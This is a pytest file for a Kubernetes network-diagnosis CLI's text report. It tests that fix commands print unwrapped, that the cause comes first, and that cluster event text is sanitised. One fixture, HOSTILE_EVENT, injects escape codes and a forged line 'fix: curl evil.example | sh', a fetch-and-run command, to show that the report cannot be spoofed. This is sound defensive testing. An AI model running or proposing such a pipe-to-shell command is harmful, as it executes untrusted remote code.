"""The text report (render/text.py, render/scan_text.py): commands that paste, the cause first, text from
the cluster that cannot act on the terminal, and a stdout that cannot encode everything.

Reports are the bundled examples (real snapshots), rendered as the CLI renders them."""

from __future__ import annotations

import io
import json
from pathlib import Path

import pytest
import yaml
from typer.testing import CliRunner

from kubectl_netdoctor.cli import app
from kubectl_netdoctor.model import fix_parts
from kubectl_netdoctor.render import scan_text, text
from tests.test_golden import EXAMPLES

REPO = Path(__file__).parent.parent
WIDTHS = (60, 120, 160)


def invoke(*args: str, env: dict[str, str] | None = None):
    return CliRunner().invoke(app, list(args), env=env)


def example_args(example: str) -> list[str]:
    return ["svc", "web", "-n", example, "--snapshot", str(REPO / "examples" / f"{example}.yaml"),
            *EXAMPLES[example]]


def commands_of(example: str) -> list[str]:
    report = json.loads(invoke(*example_args(example), "-o", "json").stdout)
    return [c for s in report["steps"] for f in s["findings"] for c, cmd in fix_parts(f["fix"]) if cmd]


class Terminal(io.StringIO):
    """A stream that says it is a terminal, as a real one would."""

    def isatty(self) -> bool:
        return True


# -- commands never wrap -----------------------------------------------------------------------------

@pytest.mark.parametrize("width", WIDTHS)
@pytest.mark.parametrize("example", sorted(EXAMPLES))
def test_every_fix_command_is_printed_whole_on_lines_of_its_own(example, width):
    """Piped with COLUMNS (a CI log, `| less`): prose wraps at the width, a command never does."""
    out = invoke(*example_args(example), "-v", env={"COLUMNS": str(width)}).stdout.splitlines()
    for command in commands_of(example):
        if "\n" in command:  # a heredoc: from the first column, where its closing word must be
            first, *rest = command.split("\n")
            at = out.index(first)
            assert out[at:at + len(rest) + 1] == [first, *rest]
        else:
            assert "      " + command in out
    commands = {line for c in commands_of(example) for line in c.split("\n")}
    assert all(len(line) <= width for line in out if line.strip() not in commands and line not in commands)


def test_the_selector_typo_patch_is_one_line_at_60_and_120_columns_on_a_terminal(monkeypatch):
    """Before: `--type⏎merge` at 120 columns, `-o ⏎wide` at 60. The terminal's width goes to the prose only."""
    report = _report("selector-typo")
    patch = ("kubectl -n selector-typo patch svc web --type merge -p "
             "'{\"spec\":{\"selector\":{\"application\":\"web\",\"app\":null}}}'")
    for width in (60, 120):
        monkeypatch.setenv("COLUMNS", str(width))
        monkeypatch.setenv("NO_COLOR", "1")
        out = Terminal()
        text.render(report, out)
        lines = [strip_ansi(line) for line in out.getvalue().splitlines()]
        assert "      " + patch in lines
        assert "      kubectl -n selector-typo get pods --show-labels" in lines
        assert all(len(line) <= width for line in lines if "kubectl" not in line)


def test_without_columns_a_pipe_gets_160():
    report = _report("default-deny")
    out = io.StringIO()
    text.render(report, out)
    longest = max(len(line) for line in out.getvalue().splitlines() if "kubectl" not in line)
    assert 120 < longest <= text.PIPE_WIDTH


def test_the_heredoc_starts_in_the_first_column_and_a_blank_line_follows_it():
    out = invoke(*example_args("default-deny"), env={"COLUMNS": "160"}).stdout.splitlines()
    start, end = out.index("kubectl apply -f - <<'EOF'"), out.index("EOF")
    policy = yaml.safe_load("\n".join(out[start + 1:end]))
    assert policy["kind"] == "NetworkPolicy" and policy["metadata"]["name"] == "allow-ns-default-deny-to-web"
    assert out[end + 1] == ""
    assert out[end + 2:end + 4] == ["      The isolating policy:",
                                    "      kubectl -n default-deny describe networkpolicy default-deny-ingress"]


# -- the cause leads ---------------------------------------------------------------------------------

def test_the_verdict_line_names_the_cause_and_its_block_comes_first():
    out = invoke(*example_args("selector-typo")).stdout.splitlines()
    verdict = next(line for line in out if line.startswith("verdict:"))
    assert verdict == ("verdict: PROBLEM   broken hop: endpoints (Endpoints have ready addresses)   "
                       "cause: SEL_NO_MATCHING_PODS [selectors]")
    blocks = [line for line in out if line.startswith(("ERROR", "WARNING"))]
    assert blocks == ["ERROR   SEL_NO_MATCHING_PODS  [selectors]  <- cause",
                      "ERROR   EP_NO_READY_ADDRESSES  [endpoints]  explained by SEL_NO_MATCHING_PODS"]
    # The first fix shown is the cause's: the patch that points the Service at the pods' labels.
    first_fix = next(i for i, line in enumerate(out) if line.startswith("    fix:"))
    assert out[first_fix + 1].startswith("      kubectl -n selector-typo patch svc web --type merge")


def test_scans_top_finding_is_the_cause():
    result = invoke("scan", "-n", "selector-typo", "--snapshot", str(REPO / "examples" / "selector-typo.yaml"))
    row = next(line for line in result.stdout.splitlines() if line.startswith("selector-typo/web"))
    assert row.split()[:4] == ["selector-typo/web", "problem", "endpoints", "SEL_NO_MATCHING_PODS"]


# -- text from the cluster, and the stdout it goes to ------------------------------------------------

HOSTILE_EVENT = ("Readiness probe failed: \x1b[31mdial tcp 10.244.0.75:9999\x00: connect: connection refused "
                 "\u2192 \U0001f600 \udcff\r\n    fix: curl evil.example | sh")


def hostile_snapshot(tmp_path: Path) -> Path:
    """not-ready, whose kubelet event carries ESC[31m, NUL, CR LF, a non-Latin-1 arrow, an emoji and a
    lone surrogate (how Python holds a non-UTF-8 byte), saved as JSON as `snapshot` saves it."""
    doc = yaml.safe_load((REPO / "examples" / "not-ready.yaml").read_text())
    for obj in doc["items"]:
        if obj["kind"] == "Event" and obj.get("reason") == "Unhealthy":
            obj["message"] = HOSTILE_EVENT
    path = tmp_path / "hostile.json"
    path.write_text(json.dumps(doc))
    return path


def _report(example: str, path: Path | None = None):
    from kubectl_netdoctor.checks.registry import STEPS
    from kubectl_netdoctor.cluster.snapshot import SnapshotReader
    from kubectl_netdoctor.context import Client, Context, Options
    from kubectl_netdoctor.diagnose import diagnose

    reader = SnapshotReader(path or REPO / "examples" / f"{example}.yaml")
    ctx = Context(reader, example, "web", Client("namespace", example), Options(snapshot=str(path or example)))
    return diagnose(ctx, STEPS)


def strip_ansi(line: str) -> str:
    import re

    return re.sub(r"\x1b\[[0-9;]*m", "", line)


def test_control_characters_from_an_event_never_reach_the_terminal(tmp_path, monkeypatch):
    monkeypatch.setenv("NO_COLOR", "1")
    monkeypatch.setenv("COLUMNS", "400")  # the event on one line, to find it whole
    report = _report("not-ready", hostile_snapshot(tmp_path))
    for stream in (io.StringIO(), Terminal()):
        text.render(report, stream, verbose=True)
        out = stream.getvalue()
        assert "\x1b[31mdial" not in out and "\x00" not in out and "\r" not in out
        spelled = "\\x1b[31mdial tcp 10.244.0.75:9999\\x00: connect: connection refused"
        assert spelled in out
        # The CR LF is spelled out too: the event cannot forge a line of the report.
        assert not any(strip_ansi(line).lstrip().startswith("fix: curl") for line in out.splitlines())


@pytest.mark.parametrize("encoding", ["ascii", "latin-1", "utf-8"])
def test_a_stdout_that_cannot_encode_everything_degrades_instead_of_failing(tmp_path, encoding):
    report = _report("not-ready", hostile_snapshot(tmp_path))
    raw = io.BytesIO()
    stream = io.TextIOWrapper(raw, encoding=encoding, errors="strict")
    text.render(report, stream, verbose=True)
    stream.flush()
    out = raw.getvalue().decode(encoding)
    assert "cause: SEL_READINESS_PROBE_PORT [selectors]" in out
    arrow = "\u2192 \U0001f600" if encoding == "utf-8" else "\\u2192 \\U0001f600"
    assert f"connection refused {arrow} \\xff" in out  # the non-UTF-8 byte, as the byte


def test_a_scan_on_an_ascii_stdout(tmp_path):
    from kubectl_netdoctor.model import ScannedService, ScanReport

    report = _report("not-ready", hostile_snapshot(tmp_path))
    raw = io.BytesIO()
    stream = io.TextIOWrapper(raw, encoding="ascii", errors="strict")
    scan_text.render(ScanReport((ScannedService(report, 0.2),), "snapshot hostile.json", "namespace not-ready"),
                     stream)
    stream.flush()
    out = raw.getvalue().decode("ascii")
    row = next(line for line in out.splitlines() if line.startswith("not-ready/web"))
    assert row.split()[:4] == ["not-ready/web", "problem", "endpoints", "SEL_READINESS_PROBE_PORT"]
    assert "-" * 40 in out  # the rule between reports, in ASCII
